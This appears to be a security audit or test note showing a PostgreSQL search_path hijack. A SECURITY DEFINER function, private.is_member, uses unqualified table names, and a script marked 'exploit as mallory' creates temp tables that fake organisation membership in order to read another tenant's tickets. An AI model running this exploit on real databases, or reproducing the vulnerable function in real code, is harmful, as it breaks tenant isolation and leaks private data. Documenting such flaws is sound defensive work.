-- channel: temp schema
-- object: private.is_member
-- says: The helper lost its search_path and its qualified names; pg_temp is searched first.
create or replace function private.is_member(p_org uuid)
returns boolean
language plpgsql stable security definer
as $$
begin
    return exists (
        select
        from organization_members as m
        join organizations as o on o.id = m.org_id
        where m.org_id = p_org
            and m.user_id = auth.uid()
            and m.suspended_at is null
            and m.deleted_at is null
            and o.status = 'active'
    );
end
$$;
-- exploit as mallory
create temp table organizations as select :org_b as id, 'active'::text as status;
create temp table organization_members as
select
    :org_b as org_id, auth.uid() as user_id,
    null::timestamptz as suspended_at, null::timestamptz as deleted_at;
grant select on organization_members, organizations to public;
select from public.tickets where org_id = :org_b;
-- leaks when rows
